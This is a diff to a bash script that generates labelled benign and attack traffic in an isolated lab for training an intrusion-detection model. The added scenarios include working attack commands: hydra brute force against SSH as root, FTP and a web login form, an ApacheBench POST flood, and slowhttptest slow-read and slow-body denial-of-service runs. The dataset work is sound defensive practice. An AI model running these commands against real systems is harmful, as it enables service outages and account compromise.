@@ -12,7 +12,7 @@
 # are removed on exit, whatever happens.
 #
 # Usage: sudo models/training/lab/lab.sh [--out DIR] [--only scenario,scenario] [--list]
-# All 52 scenarios: about 14 minutes (sum of the scenario bounds; less on an idle machine).
+# All 60 scenarios: about 19 minutes (sum of the scenario bounds; less on an idle machine).
 # Needs: iproute2 tcpdump nginx-light openssh-server dnsmasq-base vsftpd iperf3 curl wget dnsutils
 #        nmap hping3 slowhttptest hydra apache2-utils openssl (see models/training/lab/README.md)
 set -euo pipefail
@@ -389,6 +389,49 @@ scenario_web_attack_login_brute() {
   done <"$LAB_DIR/wordlist.txt"
 }
 
+# ---- added for the context features (issue 4): benign form and login traffic, more attack variants ----
+# Benign form submissions (contact, search, newsletter, login over HTTPS), one connection each, with pauses:
+# the per-flow shape of a form POST is what web attacks send too, so benign training needs it.
+scenario_benign_web_forms() {
+  for round in $(seq 1 48); do
+    p=$(( round % 20 + 1 ))
+    timeout 5 curl -s -o /dev/null "http://$VIC_IP/page$p.html"
+    case $(( round % 4 )) in
+      0) timeout 5 curl -s -o /dev/null -d "name=Visitor+$round&email=v$round%40example.lab&message=Question+about+order+$round" "http://$VIC_IP/app/contact" ;;
+      1) timeout 5 curl -s -o /dev/null -G --data-urlencode "q=blue shoes size $round" "http://$VIC_IP/app/search" ;;
+      2) timeout 5 curl -s -o /dev/null -d "email=reader$round%40example.lab&list=weekly" "http://$VIC_IP/app/subscribe" ;;
+      3) timeout 5 curl -sk -o /dev/null -d "username=user$round&password=Correct-horse-$round&remember=1" "https://$VIC_IP/app/login" ;;
+    esac
+    sleep "0.$(( round % 5 + 2 ))"
+  done
+}
+# Logged-in sessions: one login POST, a few pages on the same connection, a feedback POST; a pause between users.
+scenario_benign_web_sessions() {
+  for s in $(seq 1 24); do
+    timeout 5 curl -s -o /dev/null -c "$WORK/jar.$s" -d "username=$LAB_USER&password=$LAB_PASS&submit=Login" "http://$VIC_IP/app/login"
+    timeout 10 curl -s -b "$WORK/jar.$s" -o /dev/null "http://$VIC_IP/page$(( s % 20 + 1 )).html" \
+      -o /dev/null "http://$VIC_IP/index.html" -o /dev/null "http://$VIC_IP/app/"
+    timeout 5 curl -s -b "$WORK/jar.$s" -o /dev/null -d "comment=Thanks+for+the+update+$s&rating=$(( s % 5 + 1 ))" "http://$VIC_IP/app/feedback"
+    rm -f "$WORK/jar.$s"
+    sleep 1
+  done
+}
+scenario_dos_http_flood_post() {
+  printf 'comment=%s&topic=support' "$(head -c 600 /dev/zero | tr '\0' 'x')" >"$WORK/post.body"
+  timeout 40 ab -n 6000 -c 40 -p "$WORK/post.body" -T application/x-www-form-urlencoded "http://$VIC_IP/app/feedback"
+}
+scenario_slow_dos_slowread_https() {
+  timeout 40 slowhttptest -X -c 120 -r 40 -w 256 -y 512 -n 4 -z 64 -k 2 -l 20 -u "https://$VIC_IP/big.bin" -p 3
+}
+scenario_slow_dos_slowbody_https() { timeout 40 slowhttptest -B -c 120 -r 40 -i 3 -l 20 -s 2048 -u "https://$VIC_IP/app/contact" -p 3; }
+scenario_brute_force_ssh_t4_root() { timeout 35 hydra -l root -P "$LAB_DIR/wordlist.txt" -t 4 -I "ssh://$VIC_IP"; }
+scenario_brute_force_ftp_t2() { timeout 35 hydra -l ftpadmin -e ns -P "$LAB_DIR/wordlist.txt" -t 2 -I "ftp://$VIC_IP"; }
+# hydra counts an attempt as failed unless the success marker appears (the lab site never shows it): all 96 are tried.
+scenario_web_attack_login_hydra() {
+  timeout 35 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 4 -I "$VIC_IP" http-post-form \
+    "/app/login:username=^USER^&password=^PASS^&submit=Login:S=Welcome-back"
+}
+
 setup_network
 start_servers
 command -v sshpass >/dev/null || { echo "lab: missing tool 'sshpass'" >&2; exit 1; }
@@ -449,4 +492,12 @@ run_scenario brute_force_ftp_t1 FTP-Patator brute_force atk scenario_brute_force
 run_scenario web_attack_sqli 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_sqli
 run_scenario web_attack_xss_lfi 'Web Attack - XSS' web_attack atk scenario_web_attack_xss_lfi
 run_scenario web_attack_login_brute 'Web Attack - Brute Force' web_attack atk scenario_web_attack_login_brute
+run_scenario benign_web_forms BENIGN benign atk scenario_benign_web_forms
+run_scenario benign_web_sessions BENIGN benign atk scenario_benign_web_sessions
+run_scenario dos_http_flood_post 'DoS HTTP flood' dos atk scenario_dos_http_flood_post
+run_scenario slow_dos_slowread_https 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowread_https
+run_scenario slow_dos_slowbody_https 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowbody_https
+run_scenario brute_force_ssh_t4_root SSH-Patator brute_force atk scenario_brute_force_ssh_t4_root
+run_scenario brute_force_ftp_t2 FTP-Patator brute_force atk scenario_brute_force_ftp_t2
+run_scenario web_attack_login_hydra 'Web Attack - Brute Force' web_attack atk scenario_web_attack_login_hydra
 log "done: captures and ground truth in $OUT_DIR"
